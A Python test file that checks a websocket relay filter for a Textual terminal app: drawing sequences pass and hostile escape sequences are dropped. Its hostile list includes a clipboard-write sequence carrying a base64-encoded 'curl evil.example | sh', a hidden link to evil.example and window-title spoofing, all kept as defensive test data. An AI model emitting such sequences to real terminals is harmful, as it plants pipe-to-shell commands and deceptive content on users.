"""``space join``'s relay passes what a Textual app draws and drops every other sequence,
whole, however the websocket cuts the stream into frames."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from weaver_tui.core.cli.relay_filter import PRIVATE_MODES, RelayFilter

DRAWN = [
    "\x1b[?1049h", "\x1b[?1049l", "\x1b[?25l", "\x1b[?25h", "\x1b[?1000h", "\x1b[?1003h",
    "\x1b[?1006h", "\x1b[?1015h", "\x1b[?2004h", "\x1b[?2004l", "\x1b[?2026h", "\x1b[?2026l",
    "\x1b[?7l", "\x1b[?7h", "\x1b[?1004h", "\x1b[?1007h", "\x1b[J", "\x1b[2J", "\x1b[K",
    "\x1b[H", "\x1b[12;40H", "\x1b[3A", "\x1b[0m", "\x1b[1;38;2;200;100;50;48;5;17m",
    "\x1b[4:3m", "\x1b[3;20r", "\x1b[s", "\x1b[u", "\x1b7", "\x1b8", "\x1b(B", "\x1b=",
]  # fmt: skip
"""What a Textual app draws with (its drivers, its compositor and Rich's segments)."""

HOSTILE = [
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",  # the clipboard
    "\x1b]52;c;Y3VybA==\x1b\\",
    "\x1b]0;you have been owned\x07",  # the window's title
    "\x1b]2;title\x1b\\",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",  # a hidden link
    "\x1b]22;pointer\x07",  # Textual's own pointer shape
    "\x1b[21t", "\x1b[14t", "\x1b[8;1;1t",  # window reports and resizes
    "\x1b[6n", "\x1b[?6n", "\x1b[c", "\x1b[>c", "\x1b[5n",  # status and attributes
    "\x1b[?2048$p", "\x1b[?2048h", "\x1b[?1016h",  # DECRQM, resize reports, pixel mouse
    "\x1b[>1u", "\x1b[<u", "\x1b[=5;1u", "\x1b[?u",  # the kitty keyboard protocol
    "\x1bP+q544e\x1b\\", "\x1bP1$r\x1b\\", "\x1b_Gf=100;AAAA\x1b\\", "\x1b^pm\x1b\\",
    "\x1bXsos\x1b\\", "\x1bc", "\x1b[4h", "\x1b[20h",  # strings, a reset, ANSI modes
    "\x9b31m", "\x9d0;title\x07", "\x90q\x9c", "\x07", "\x00", "\x7f", "\x85",
]  # fmt: skip

SEQUENCE = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b[ -/]*[0-~]")


def relay(*frames: bytes) -> bytes:
    screen = RelayFilter()
    return b"".join(screen.feed(frame) for frame in frames)


def test_what_a_textual_app_draws_passes_unchanged() -> None:
    stream = "text " + " ünï ".join(DRAWN) + " 漢字 end\r\n\t\b"
    assert relay(stream.encode()) == stream.encode()


def test_every_hostile_sequence_is_dropped_whole() -> None:
    for sequence in HOSTILE:
        out = relay(f"before{sequence}after".encode()).decode()
        assert out == "beforeafter" or out == "beforeclickafter", (repr(sequence), repr(out))


def test_only_the_listed_private_modes_pass() -> None:
    for mode in range(0, 3000):
        kept = relay(f"\x1b[?{mode}h".encode())
        assert (kept != b"") == (mode in PRIVATE_MODES), mode


pieces = st.lists(st.sampled_from(DRAWN + HOSTILE) | st.text(max_size=6), max_size=12)


@settings(max_examples=300, deadline=None)
@given(pieces=pieces, cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=6))
def test_any_cut_into_frames_gives_what_the_whole_gives_and_only_allowed_sequences(
    pieces: list[str], cuts: list[int]
) -> None:
    data = "".join(pieces).encode()
    points = sorted({min(c, len(data)) for c in cuts})
    frames = [data[a:b] for a, b in zip([0, *points], [*points, len(data)], strict=True)]
    whole = relay(data)
    assert relay(*frames) == whole
    text = whole.decode()
    for sequence in SEQUENCE.findall(text):
        assert (
            sequence in DRAWN
            or re.fullmatch(r"\x1b\[[0-9;:]*[mABCDEFGHfdJKXLMP@STr]", sequence)
            or (re.fullmatch(r"\x1b\[\?[0-9;]+[hl]", sequence))
        ), repr(sequence)
    controls = re.sub(r"\x1b(\[[0-?]*[ -/]*[@-~]|[ -/]*[0-~])", "", text)
    assert not re.search(r"[\x00-\x07\x0b-\x0c\x0e-\x1f\x7f-\x9f]", controls), repr(controls)


def test_a_string_longer_than_what_is_held_is_still_dropped_to_its_end() -> None:
    body = b"A" * 200_000
    frames = [b"ok \x1b]52;c;", body[:100_000], body[100_000:], b"\x07 after"]
    assert relay(*frames) == b"ok  after"
